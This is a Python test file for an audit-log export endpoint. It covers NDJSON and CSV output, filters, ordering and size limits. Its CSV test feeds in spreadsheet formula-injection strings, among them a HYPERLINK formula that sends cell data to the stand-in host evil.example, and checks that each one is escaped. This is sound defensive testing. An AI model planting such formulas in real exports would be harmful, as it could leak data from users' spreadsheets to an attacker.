import json
from typing import Any

import pytest

from chalicelib.features.audit.exports.logic import inline_export
from chalicelib.features.audit.log.logic import entry_queries as logs
from chalicelib.kernel.execution import envelope
from tests.harness.api import ApiClient, ApiResponse, Json
from tests.harness.audit_logs import list_entries
from tests.harness.exports import append_entries, get_inline_export, parse_csv
from tests.harness.invitations import create_invitation
from tests.harness.organizations import CreatedOrganization, add_organization_member, create_organization
from tests.http.audit.conftest import build_filter_queries

COLUMNS = (
    '"sequence","id","occurredAt","type","actorType","actorId","actorName","targetType","targetId","targetName",'
    '"operationId","requestId","ipAddress","userAgent","changes","data","leafHash","treeSize","erased"'
)


def exported_entries(api: ApiClient, organization: CreatedOrganization, **query: Any) -> list[Json]:
    """Return the entries of an export in NDJSON."""
    response = get_inline_export(api, organization, **query)
    assert response.status == 200, response.text
    assert response.text == "" or response.text.endswith("\n")
    return [json.loads(line) for line in response.text.splitlines()]


def exported_rows(api: ApiClient, organization: CreatedOrganization, **query: Any) -> list[dict[str, str]]:
    return parse_csv(get_inline_export(api, organization, format="csv", **query).text)


class TestExportAuditLog:
    def test_the_file_has_a_line_for_each_entry_whatever_the_limit_of_lists(self, api, log, clock):
        timestamp = clock.freeze()
        response = log.get("/export", limit=1)
        assert response.headers["Content-Type"] == "application/x-ndjson"
        name = f"{log.organization.record['slug']}-audit-log-{timestamp[:10]}.ndjson"
        assert response.headers["Content-Disposition"] == f'attachment; filename="{name}"'
        assert response.headers["Cache-Control"] == "no-store"
        assert [json.loads(line) for line in response.text.splitlines()] == log.entries()[::-1]

    def test_pending_entries_come_last_and_change_the_entity_tag(self, api, log):
        etag = log.get("/export").etag
        log.rename("First")
        log.rename("Second")
        listed = exported_entries(api, log.organization)
        assert [entry["sequence"] for entry in listed] == [*range(1, 11), None, None]
        assert [entry["data"]["name"] for entry in listed[-2:]] == ["First", "Second"]
        assert log.get("/export").etag != etag

    def test_entries_are_in_the_order_of_their_sequence_despite_clock_skew(self, api, ada, clock, workers):
        organization, other = create_organization(api, ada), create_organization(api, ada)
        for shift, address in ((60, "first@example.org"), (-90, "second@example.org")):
            clock.shift(seconds=shift)
            create_invitation(api, organization, address)
            workers.deliver()
        assert [entry["sequence"] for entry in list_entries(api, organization)] == [2, 1, 3]
        assert [entry["sequence"] for entry in exported_entries(api, organization)] == [1, 2, 3]
        assert len(exported_entries(api, other)) == 1

    def test_long_entries_are_complete(self, api, ada, workers):
        organization = create_organization(api, ada, companyAddress="é" * 3000)
        assert exported_entries(api, organization) == list_entries(api, organization)
        workers.deliver()
        assert exported_entries(api, organization) == list_entries(api, organization)

    def test_unreadable_entries_are_omitted(self, log):
        log.alter(3, body=b"no json")
        log.alter(5, body=log.entry(5)["body"][:-1] + b"\n}")
        log.remove_attributes(7, "body")
        for export_format in ("ndjson", "csv"):
            lines = log.get("/export", format=export_format).text.splitlines()
            assert len(lines) == 7 + (export_format == "csv")


class TestFilters:
    def test_the_filters_match_those_of_the_list(self, api, organization, grace, mary):
        for n in range(3):
            api.patch(organization.path, caller=grace, json={"name": f"Name {n}"})
            member_path, role = f"{organization.path}/members/{mary.id}", ("editor", "member")[n % 2]
            api.patch(member_path, caller=grace, json={"role": role})
        queries = build_filter_queries(
            list_entries(api, organization), "organization.updated", grace.id, organization.id
        )
        for query in (*queries, {"actorId": grace.id.upper()}, {"actorId": "nobody"}):
            assert exported_entries(api, organization, **query) == list_entries(api, organization, **query)[::-1], query

    @pytest.mark.parametrize(
        ("query", "errors"),
        [
            ({"type": "*.member"}, {"query/type": "malformed"}),
            ({"from": "yesterday"}, {"query/from": "malformed"}),
            ({"to": "2026-11-20"}, {"query/to": "malformed"}),
            ({"from": "2026-11-20T09:30:00Z", "to": "2026-11-19T09:30:00Z"}, {"query/from": "out_of_range"}),
            *(({"format": name}, {"query/format": "not_one_of"}) for name in ("xml", "", "NDJSON", "ndjson.gz")),
        ],
    )
    def test_an_invalid_filter_or_format_is_rejected(self, new_log, query, errors):
        rejected = new_log.get("/export", **query)
        assert (rejected.status_and_code, rejected.errors) == ("422 validation_failed", errors)

    def test_a_target_filter_cannot_reach_another_log(self, api, ada, stranger):
        other_log, own_log = create_organization(api, ada), create_organization(api, stranger)
        for value in (other_log.id, f"x#A#{other_log.id}", "{log_id}"):
            assert exported_entries(api, own_log, targetId=value) == []


class TestCsv:
    def test_a_csv_file_has_a_row_for_each_entry(self, api, log):
        response = log.get("/export", format="csv")
        assert response.headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
        assert response.headers["Content-Disposition"].endswith('.csv"')
        assert response.text.splitlines()[0] == COLUMNS
        entries, rows = exported_entries(api, log.organization), parse_csv(response.text)
        assert [(row["id"], row["sequence"]) for row in rows] == [(e["id"], str(e["sequence"])) for e in entries]
        assert [json.loads(row["data"]) for row in rows] == [entry["data"] for entry in entries]
        assert log.get("/export", format="csv", actorId="nobody").text == f"{COLUMNS}\r\n"

    def test_formulas_are_escaped(self, api, new_log):
        texts = ["=1+1", "+1", "-1", "@A1", "\uff1d1", "\uff0b1", "\uff0d1", "\uff20A1", '  "=1+1', "\u200b=1"]
        for text in texts:
            new_log.rename(text)
        rows = exported_rows(api, new_log.organization, type="organization.updated")
        assert [row["targetName"] for row in rows] == [f"'{text.strip()}" for text in texts]
        agent = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
        new_log.rename("B", headers={"User-Agent": agent})
        assert exported_rows(api, new_log.organization)[-1]["userAgent"] == f"'{agent}"
        for text in ("a;=1+1", "a|+1", 'a;"-1', "a ; @A1"):
            new_log.rename(text)
            line = new_log.get("/export", format="csv").text.splitlines()[-1]
            fields = [part.lstrip(' "') for part in line.replace("|", ";").split(";")[1:]]
            assert fields
            assert not any(part.startswith(("=", "+", "-", "@")) for part in fields)


def assert_too_large(api: ApiClient, organization: CreatedOrganization, reason: str, **query: Any) -> ApiResponse:
    rejected = get_inline_export(api, organization, **query)
    assert rejected.status_and_code == "409 export_too_large"
    assert reason in rejected.json["detail"]
    assert f"POST {organization.path}/audit-log/export-async" in rejected.json["detail"]
    return rejected


class TestTooLargeExports:
    def test_the_limits_are_those_of_the_contract(self):
        assert (inline_export.MAX_ENTRIES, inline_export.MAX_BYTES) == (10_000, 5_000_000)

    def test_too_many_entries_are_rejected(self, api, log, monkeypatch):
        monkeypatch.setattr(inline_export, "MAX_ENTRIES", 10)
        assert len(exported_entries(api, log.organization)) == 10
        log.rename("One more")
        assert_too_large(api, log.organization, "more than 10 entries")
        assert len(exported_entries(api, log.organization, type="organization.updated")) == 10

    @pytest.mark.parametrize("char_count", [100, 6_000])
    def test_too_many_bytes_are_rejected(self, api, ada, monkeypatch, char_count):
        organization = create_organization(api, ada)
        append_entries(organization.id, 30, char_count)
        size = len(get_inline_export(api, organization).text.encode())
        monkeypatch.setattr(inline_export, "MAX_BYTES", size)
        assert len(exported_entries(api, organization)) == 31
        for max_bytes in (size - 1, size // 3):
            monkeypatch.setattr(inline_export, "MAX_BYTES", max_bytes)
            assert_too_large(api, organization, f"more than {max_bytes:,} bytes")

    def test_escaped_characters_count_with_their_encoded_size(self, api, ada, monkeypatch):
        organization = create_organization(api, ada, name="🚂" * 200, slug="trains")
        text = get_inline_export(api, organization).text
        monkeypatch.setattr(envelope, "MAX_ENVELOPE_BYTES", len(json.dumps(text)) + 10_000)
        assert get_inline_export(api, organization).text == text
        monkeypatch.setattr(envelope, "MAX_ENVELOPE_BYTES", len(json.dumps(text)))
        assert_too_large(api, organization, "than a response can be")

    def test_a_filter_that_matches_few_entries_has_a_query_limit(self, api, ada, grace, monkeypatch):
        organization = create_organization(api, ada)
        add_organization_member(organization, grace, "admin")
        append_entries(organization.id, 25, 6_000)
        monkeypatch.setattr(inline_export, "MAX_ENTRIES", 9)  # This is also the page size of the queries.
        monkeypatch.setattr(logs, "_FILTERED_PAGE_SIZE", 1)
        monkeypatch.setattr(inline_export, "MAX_QUERIES", 3)
        assert len(exported_entries(api, organization, type="organization.invitation.*")) == 1
        monkeypatch.setattr(inline_export, "MAX_QUERIES", 2)
        assert_too_large(api, organization, "too long to be searched", type="organization.invitation.*")
        assert len(exported_entries(api, organization, type="organization.invitation.accepted")) == 1

    def test_no_bodies_are_read_once_the_limit_is_exceeded(self, api, ada, monkeypatch):
        organization = create_organization(api, ada)
        append_entries(organization.id, 30, 6_000)
        monkeypatch.setattr(inline_export, "MAX_BYTES", 50_000)
        rejected = assert_too_large(api, organization, "more than 50,000 bytes")
        assert rejected.calls.call_names == ["dynamodb:BatchGetItem", "dynamodb:Query"]
